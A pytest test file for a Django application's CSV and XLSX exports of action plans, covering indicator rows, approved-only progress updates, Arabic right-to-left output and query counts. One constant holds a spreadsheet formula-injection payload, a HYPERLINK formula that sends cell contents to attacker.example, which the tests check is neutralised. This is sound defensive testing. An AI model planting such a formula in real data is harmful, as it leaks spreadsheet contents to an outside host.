import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone, translation

from actionplans.exports import Sheet, neutralise_formula, plan_sheets, to_csv, to_xlsx
from actionplans.models import (
    ActionPlan,
    ProgressUpdate,
    ReportingPeriod,
    StrategicGoal,
)
from tests.factories import (
    ActionFactory,
    ActionPlanFactory,
    CountryFactory,
    IndicatorFactory,
    OrganisationFactory,
    ProgressUpdateFactory,
    ReportingPeriodFactory,
    SessionDocumentFactory,
    SessionFactory,
    StrategicGoalFactory,
)

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def periods() -> list[ReportingPeriod]:
    return [
        ReportingPeriodFactory(name="2040 H1", start=datetime.date(2040, 1, 1)),
        ReportingPeriodFactory(name="2040 H2", start=datetime.date(2040, 7, 1)),
        ReportingPeriodFactory(name="2041 H1", start=datetime.date(2041, 1, 1)),
    ]


@pytest.fixture
def plan(periods) -> ActionPlan:
    plan = ActionPlanFactory(code="E")
    goal = StrategicGoalFactory(plan=plan, number=1, title_en="Prevention")
    action = ActionFactory(
        goal=goal,
        reference="1.1",
        order=1,
        description_en="Train prosecutors",
        sub_points_en="Joint trainings\nStudy visits",
        data_sources_en="Ministry of Justice\nJudicial institute",
    )
    # In the plan's order, not the alphabet's.
    action.set_entities([OrganisationFactory(acronym="PGO-Z"), OrganisationFactory(acronym="EJN")])
    trainings = IndicatorFactory(action=action, code="1.1.a", text_en="Number of trainings")
    ProgressUpdateFactory(indicator=trainings, period=periods[0], value=2, narrative="First half")
    ProgressUpdateFactory(
        indicator=trainings,
        period=periods[1],
        status=ProgressUpdate.Status.ACHIEVED,
        value=5,
        narrative="Second half",
        country=CountryFactory(iso_code="XT", name_en="Testland"),  # outside the sequence
        evidence_url="https://example.test/report",
        evidence_session=SessionFactory(number=7),
        evidence_document=SessionDocumentFactory(title_en="Conclusions of the 7th session"),
    )
    ProgressUpdateFactory(
        indicator=trainings,
        period=periods[2],
        status=ProgressUpdate.Status.NOT_STARTED,
        value=9,
        narrative="Draft, not for the figures",
        review=ProgressUpdate.Review.DRAFT,
        reviewed_by=None,
        reviewed_at=None,
    )
    ActionFactory(goal=goal, reference="1.2", order=2, description_en="No indicator yet")
    return plan


def rows_by_header(sheet: Sheet) -> list[dict]:
    return [dict(zip(sheet.header, row, strict=True)) for row in sheet.rows]


def test_plan_sheet_has_one_row_per_indicator_with_the_latest_approved_status(plan):
    plan_sheet, progress_sheet, _followups = plan_sheets(plan)
    assert [plan_sheet.title, progress_sheet.title] == ["Plan", "Progress"]
    trainings, no_indicator = rows_by_header(plan_sheet)
    assert trainings == {
        "Plan": "E",
        "Goal": 1,
        "Goal title": "Prevention",
        "Action": "1.1",
        "Action description": "Train prosecutors • Joint trainings • Study visits",
        "Participating entities": "PGO-Z; EJN",
        "Indicator code": "1.1.a",
        "Indicator": "Number of trainings",
        "Kind": "Count",
        "Latest approved status": "Achieved",
        "Latest approved value": 5,
        "Period of the latest approved update": "2040 H2",
        "Sources of data": "Ministry of Justice; Judicial institute",
    }
    assert no_indicator["Action"] == "1.2"
    assert no_indicator["Indicator code"] == no_indicator["Latest approved status"] == ""


def test_progress_sheet_lists_approved_updates_only(plan):
    progress = rows_by_header(plan_sheets(plan)[1])
    assert [row["Narrative"] for row in progress] == ["First half", "Second half"]
    first, second = progress
    assert first["Country"] == "Regional"
    assert first["Status"] == "In progress"
    assert second["Country"] == "Testland"
    assert second["Status"] == "Achieved"
    assert second["Evidence"] == (
        "https://example.test/report; 7th CrimEx session; Conclusions of the 7th session"
    )
    assert second["Approved by"] == "Rania Reviewer"
    assert isinstance(second["Approved at"], datetime.datetime)
    assert "Draft, not for the figures" not in to_csv(plan_sheets(plan)).decode("utf-8-sig")


def test_csv_has_a_bom_the_sheet_titles_and_arabic_text(plan):
    StrategicGoal.objects.filter(plan=plan).update(title_ar="الوقاية من الجريمة")
    with translation.override("ar"):
        content = to_csv(plan_sheets(plan))
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert "الوقاية من الجريمة" in text
    lines = list(csv.reader(io.StringIO(text)))
    assert len(lines[0]) == 1  # the title of the first sheet on a line of its own
    assert lines[4] == []  # a blank line after the plan's two rows
    assert len(lines[5]) == 1  # then the second sheet's title


def test_csv_dates_are_iso_text(plan):
    text = to_csv(plan_sheets(plan)).decode("utf-8-sig")
    approved_at = ProgressUpdate.objects.filter(narrative="First half").get().reviewed_at
    assert timezone.localtime(approved_at).isoformat() in text


@pytest.mark.parametrize("dangerous", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_neutralised(dangerous):
    assert neutralise_formula(dangerous) == f"'{dangerous}"
    assert neutralise_formula("A normal narrative") == "A normal narrative"


def test_formula_injection_is_neutralised_in_both_formats(plan):
    ProgressUpdate.objects.filter(narrative="First half").update(narrative=INJECTION)
    sheets = plan_sheets(plan)

    cells = [
        cell
        for line in csv.reader(io.StringIO(to_csv(sheets).decode("utf-8-sig")))
        for cell in line
    ]
    assert f"'{INJECTION}" in cells
    assert not [cell for cell in cells if cell.startswith("=")]

    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheets)))
    values = [cell.value for row in workbook["Progress"].iter_rows() for cell in row]
    assert f"'{INJECTION}" in values
    assert all(cell.data_type != "f" for row in workbook["Progress"].iter_rows() for cell in row)


def test_xlsx_opens_with_two_sheets_a_frozen_bold_header_and_numbers(plan):
    sheets = plan_sheets(plan)
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheets)))
    assert workbook.sheetnames == ["Plan", "Progress", "Follow-ups"]
    worksheet = workbook["Plan"]
    assert [cell.value for cell in worksheet[1]] == sheets[0].header
    assert all(cell.font.bold for cell in worksheet[1])
    assert worksheet.freeze_panes == "A2"
    assert worksheet.column_dimensions["E"].width > worksheet.column_dimensions["A"].width
    value_cell = worksheet.cell(row=2, column=sheets[0].header.index("Latest approved value") + 1)
    assert value_cell.value == 5
    assert value_cell.data_type == "n"
    approved_at = workbook["Progress"].cell(row=2, column=9).value
    assert isinstance(approved_at, str)
    assert datetime.datetime.fromisoformat(approved_at).tzinfo is not None
    assert not worksheet.sheet_view.rightToLeft


def test_xlsx_reads_right_to_left_in_arabic(plan):
    with translation.override("ar"):
        content = to_xlsx(plan_sheets(plan))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert all(worksheet.sheet_view.rightToLeft for worksheet in workbook.worksheets)


def test_xlsx_sheet_titles_are_cut_to_what_excel_accepts():
    sheets = [Sheet(title="A [very] long title: more than 31 characters", header=["a"], rows=[])]
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheets)))
    assert len(workbook.sheetnames[0]) <= 31
    assert not set("[]:*?/\\") & set(workbook.sheetnames[0])


def add_indicators(plan: ActionPlan, count: int, periods: list[ReportingPeriod]) -> None:
    goal = StrategicGoalFactory(plan=plan)
    for _number in range(count):
        action = ActionFactory(goal=goal)
        action.entities.add(OrganisationFactory())
        indicator = IndicatorFactory(action=action)
        ProgressUpdateFactory(indicator=indicator, period=periods[0], country=CountryFactory())
        ProgressUpdateFactory(
            indicator=indicator,
            period=periods[1],
            evidence_session=SessionFactory(),
            evidence_document=SessionDocumentFactory(),
        )


def test_query_count_does_not_grow_with_the_plan(periods, django_assert_max_num_queries):
    plan = ActionPlanFactory()
    add_indicators(plan, 2, periods)
    with django_assert_max_num_queries(8) as few:  # plan, its prefetches, the updates, follow-ups
        sheets = plan_sheets(plan)
    assert len(sheets[0].rows) == 2
    add_indicators(plan, 18, periods)
    with django_assert_max_num_queries(len(few.captured_queries)):
        sheets = plan_sheets(plan)
    assert len(sheets[0].rows) == 20
    assert len(sheets[1].rows) == 40
